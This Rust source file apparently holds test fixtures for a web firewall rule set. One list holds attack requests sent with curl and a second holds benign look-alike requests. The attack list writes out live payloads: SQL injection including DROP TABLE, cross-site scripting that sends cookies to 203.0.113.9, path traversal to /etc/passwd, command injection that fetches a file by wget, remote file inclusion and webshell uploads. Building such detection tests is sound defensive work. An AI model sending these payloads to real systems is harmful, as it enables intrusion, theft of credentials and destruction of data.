//! Requests as attackers and as people send them, for curl.

/// A request.
pub(crate) struct Attack {
    /// What it is, for messages.
    pub(crate) what: &'static str,
    pub(crate) path: &'static str,
    /// Further arguments of curl.
    pub(crate) arguments: &'static [&'static str],
}

const fn get(what: &'static str, path: &'static str) -> Attack {
    Attack { what, path, arguments: &[] }
}

const fn with(what: &'static str, arguments: &'static [&'static str]) -> Attack {
    Attack { what, path: "/", arguments }
}

/// Each of a kind that the rule set is for; in the query, in forms, in JSON, in cookies and in headers.
pub(crate) const ATTACKS: &[Attack] = &[
    get("a condition that is always true", "/?id=1%27%20OR%20%271%27=%271"),
    get("a union with the accounts", "/?id=1%20UNION%20SELECT%20user,password%20FROM%20mysql.user--%20-"),
    get("a union with comments for blanks", "/?id=1%2F**%2FuNiOn%2F**%2FsElEcT%2F**%2F1,2,3--"),
    get("a union with a version's comment", "/?id=1%20%2F*!50000UNION*%2F%20%2F*!50000SELECT*%2F%201,2,3"),
    get("a question of time", "/?id=1%20AND%20SLEEP(5)"),
    get("a benchmark", "/?id=1%20AND%20BENCHMARK(5000000,MD5(1))"),
    get("a stacked statement", "/?id=1;DROP%20TABLE%20wp_users;--"),
    get("a file by the database", "/?id=1%20UNION%20SELECT%20LOAD_FILE(0x2f6574632f706173737764)"),
    with("SQL in a form", &["--data", "id=1' AND 1=(SELECT COUNT(*) FROM wp_users)-- -"]),
    with(
        "SQL in JSON",
        &["--header", "Content-Type: application/json", "--data", "{\"id\":\"1 UNION SELECT 1,2,3 FROM wp_users\"}"],
    ),
    with("SQL in a cookie", &["--cookie", "session=1' OR '1'='1' -- -"]),
    get("a script", "/?q=%3Cscript%3Ealert(1)%3C/script%3E"),
    get("a picture that fails", "/?q=%3Cimg%20src=x%20onerror=alert(1)%3E"),
    get("a drawing that loads", "/?q=%3Csvg%2Fonload=alert(1)%3E"),
    get("a script's address", "/?q=%3Ca%20href=%22javascript:alert(1)%22%3Ex%3C/a%3E"),
    with(
        "a script in a form",
        &["--data", "comment=<script>document.location='https://203.0.113.9/'+document.cookie</script>"],
    ),
    get("a file above", "/?page=../../../../../../etc/passwd"),
    get("a file above, written otherwise", "/?page=..%252f..%252f..%252f..%252fetc%252fpasswd"),
    get("the environment of a process", "/?page=/proc/self/environ"),
    get("a source by PHP's filter", "/?page=php://filter/convert.base64-encode/resource=wp-config.php"),
    get("a program from elsewhere", "/?page=http://203.0.113.9/shell.txt?"),
    get("a shell's command", "/?host=127.0.0.1;cat%20/etc/passwd"),
    get("a shell's download", "/?host=127.0.0.1;wget%20http://203.0.113.9/x"),
    get("a shell's pipe", "/?host=127.0.0.1%7C/usr/bin/id"),
    get("a program of PHP", "/?x=%3C?php%20system(%27id%27);%20?%3E"),
    get("a function of PHP", "/?x=base64_decode(%27aWQ=%27);passthru(%27id%27)"),
    get("an object for PHP", "/?x=O:8:%22stdClass%22:1:%7Bs:1:%22a%22;s:1:%22b%22;%7D"),
    with("a program as an upload", &["--form", "file=GIF89a;filename=shell.php;type=image/gif"]),
    with("a program as an upload, with a second ending", &["--form", "file=GIF89a;filename=shell.php5;type=image/gif"]),
    get("a class of Java's runtime", "/?x=java.lang.Runtime"),
    with("a scanner that says its name", &["--user-agent", "sqlmap/1.9.6#stable (https://sqlmap.org)"]),
    with("another scanner", &["--user-agent", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)"]),
    get("a zero byte", "/?page=index%00.php"),
    with("a method of file shares", &["--request", "PROPFIND"]),
    with("JSON that is none", &["--header", "Content-Type: application/json", "--data", "{\"a\": 1]"]),
];

/// What people and their programs send: words that look like others, and forms of all kinds.
pub(crate) const ORDINARY: &[Attack] = &[
    get("a page", "/"),
    get("a search", "/?s=how+to+select+a+union+representative"),
    get("a name with an apostrophe", "/?s=O%27Brien"),
    get("an address in a query", "/?utm_source=newsletter&utm_medium=email&utm_campaign=2026-11"),
    get("a long query", "/?a%5B0%5D=1&a%5B1%5D=2&b%5Bc%5D%5Bd%5D=three&orderby=date&order=desc&paged=2"),
    with(
        "a form",
        &[
            "--data-urlencode",
            "comment=I'd say: 1 < 2 and 3 > 2; don't drop the table tonight, or I'll sleep (5 hours)!",
        ],
    ),
    with("a file", &["--form", "file=hello;filename=holiday.jpg;type=image/jpeg", "--form", "caption=At the sea"]),
    with(
        "JSON",
        &[
            "--header",
            "Content-Type: application/json",
            "--data",
            "{\"title\":\"News\",\"content\":\"Select one of ours, and from it the best.\"}",
        ],
    ),
    with(
        "a method of REST",
        &["--request", "PUT", "--header", "Content-Type: application/json", "--data", "{\"title\":\"News\"}"],
    ),
    with("another method of REST", &["--request", "DELETE"]),
    with("cookies", &["--cookie", "wordpress_test_cookie=WP%20Cookie%20check; _ga=GA1.2.1234567890.1700000000"]),
];
